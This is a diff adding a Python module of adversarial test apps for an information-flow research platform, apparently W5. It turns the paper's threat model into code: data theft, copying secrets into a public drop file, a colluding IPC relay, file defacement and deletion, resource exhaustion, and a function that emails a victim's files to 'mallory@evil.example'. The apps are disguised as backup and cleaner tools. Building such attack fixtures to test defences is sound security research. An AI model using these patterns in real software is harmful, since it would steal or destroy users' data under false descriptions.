@@ -1,0 +1,162 @@
+"""Adversarial applications — the paper's threat model, made executable.
+
+"Bad developers might upload applications designed to steal data,
+maliciously delete it, vandalize it, or misrepresent it" (§3).  Every
+attack here is developer code using only the public app API; the
+experiments (C1, C4, C9) count what each one actually achieves on W5
+versus on the status-quo baselines.
+
+* :func:`data_thief` — reads a victim's data and returns it, hoping the
+  platform ships it to whoever asked (it ships only to the victim).
+* :func:`exfil_writer` — tries to *copy* secrets into a public file so
+  an unprivileged accomplice (or anonymous visitor) can fetch them.
+* :func:`confederate_sender` / :func:`confederate_receiver` — a
+  colluding pair: one tainted app tries to relay secrets to a clean
+  process via IPC ("enlist another untrusted application", §3.1).
+* :func:`vandal` — overwrites or deletes every user file it can reach.
+* :func:`resource_hog` — burns CPU/queries to starve honest apps (§3.5).
+* :func:`proprietary_writer` — the §3.2 "anti-social" app: not thievery,
+  just lock-in (writes a proprietary blob format).
+"""
+
+from __future__ import annotations
+
+from typing import Any
+
+from ..labels import Label
+from ..platform import APP, AppContext, AppModule
+
+PUBLIC_DROP = "/public_drop"
+
+
+def data_thief(ctx: AppContext) -> Any:
+    """Read the victim's note and return it to *whoever is viewing*."""
+    victim = ctx.request.param("victim")
+    ctx.read_user(victim)
+    loot = []
+    home = f"/users/{victim}"
+    for name in ctx.fs.listdir(home):
+        try:
+            loot.append({name: ctx.fs.read(f"{home}/{name}")})
+        except Exception:
+            continue
+    return {"loot": loot}
+
+
+def exfil_writer(ctx: AppContext) -> Any:
+    """Copy the victim's data into a world-readable file."""
+    victim = ctx.request.param("victim")
+    ctx.read_user(victim)
+    home = f"/users/{victim}"
+    names = ctx.fs.listdir(home)
+    stolen = {name: ctx.fs.read(f"{home}/{name}") for name in names
+              if not ctx.fs.stat(f"{home}/{name}")["is_dir"]}
+    # The attack: create a PUBLIC (empty-label) file with the secrets.
+    ctx.fs.create(f"{PUBLIC_DROP}/loot-{victim}", stolen,
+                  slabel=Label.EMPTY)
+    return {"dropped": True}
+
+
+def confederate_sender(ctx: AppContext) -> Any:
+    """Taint self with the victim's tag, then relay to a clean helper.
+
+    The helper is spawned *before* tainting (while this process is
+    still clean, so the spawn itself is legal); the relay send is what
+    the kernel must refuse.
+    """
+    victim = ctx.request.param("victim")
+    helper = ctx.sys.spawn("confederate", slabel=Label.EMPTY)
+    inbox = helper.create_endpoint(direction="recv")
+    ctx.read_user(victim)
+    home = f"/users/{victim}"
+    names = ctx.fs.listdir(home)
+    secret = {name: ctx.fs.read(f"{home}/{name}") for name in names
+              if not ctx.fs.stat(f"{home}/{name}")["is_dir"]}
+    out = ctx.sys.create_endpoint(direction="send")
+    ctx.sys.send(out, inbox, secret)      # the kernel must refuse this
+    return {"relayed": True}
+
+
+def vandal(ctx: AppContext) -> Any:
+    """Deface or delete every file in the victim's home."""
+    victim = ctx.request.param("victim")
+    mode = ctx.request.param("mode", "deface")
+    ctx.read_user(victim)
+    home = f"/users/{victim}"
+    hit = 0
+    for name in ctx.fs.listdir(home):
+        path = f"{home}/{name}"
+        try:
+            if mode == "delete":
+                ctx.fs.delete(path)
+            else:
+                ctx.fs.write(path, "DEFACED")
+            hit += 1
+        except Exception:
+            continue
+    return {"vandalized": hit}
+
+
+def resource_hog(ctx: AppContext) -> Any:
+    """Burn platform resources: a tight syscall/query loop (§3.5)."""
+    spins = int(ctx.request.param("spins", 10_000))
+    done = 0
+    for __ in range(spins):
+        # each pending() call is a charged syscall; each count a query
+        ctx.sys.pending()
+        done += 1
+    return {"spun": done}
+
+
+def phone_home(ctx: AppContext) -> Any:
+    """Read the victim's data and e-mail it to the developer — the
+    §3.1 example attack verbatim ("certainly not, say, emailed to the
+    application's author")."""
+    victim = ctx.request.param("victim")
+    ctx.read_user(victim)
+    home = f"/users/{victim}"
+    loot = {name: ctx.fs.read(f"{home}/{name}")
+            for name in ctx.fs.listdir(home)
+            if not ctx.fs.stat(f"{home}/{name}")["is_dir"]}
+    ctx.send_email("mallory@evil.example", "backup", loot)
+    return {"mailed": True}
+
+
+def proprietary_writer(ctx: AppContext) -> Any:
+    """Anti-social, not malicious: store the user's data in a format
+    only this developer's code can parse (§3.2)."""
+    ctx.read_user(ctx.viewer)
+    blob = "PROPRIETARYv1\x00" + "\x01".join(
+        f"{k}={v}" for k, v in sorted(ctx.request.params.items()))
+    path = f"/users/{ctx.viewer}/proprietary.dat"
+    if ctx.fs.exists(path):
+        ctx.fs.write(path, blob)
+    else:
+        ctx.fs.create(path, blob,
+                      slabel=Label([ctx.tag_for(ctx.viewer)]),
+                      ilabel=Label([ctx.write_tag_for(ctx.viewer)]))
+    return {"stored": "proprietary"}
+
+
+MODULES = [
+    AppModule("data-thief", developer="mallory", handler=data_thief,
+              kind=APP, description="Totally legitimate photo backup.",
+              source_open=False),
+    AppModule("exfil-writer", developer="mallory", handler=exfil_writer,
+              kind=APP, description="Cloud sync (definitely).",
+              source_open=False),
+    AppModule("confederate", developer="mallory",
+              handler=confederate_sender, kind=APP,
+              description="Performance accelerator.", source_open=False),
+    AppModule("vandal", developer="mallory", handler=vandal, kind=APP,
+              description="Disk cleaner.", source_open=False),
+    AppModule("resource-hog", developer="mallory", handler=resource_hog,
+              kind=APP, description="Benchmark utility.",
+              source_open=False),
+    AppModule("phone-home", developer="mallory", handler=phone_home,
+              kind=APP, description="Off-site backup service.",
+              source_open=False),
+    AppModule("proprietary-writer", developer="lockin-corp",
+              handler=proprietary_writer, kind=APP,
+              description="Premium data manager."),
+]
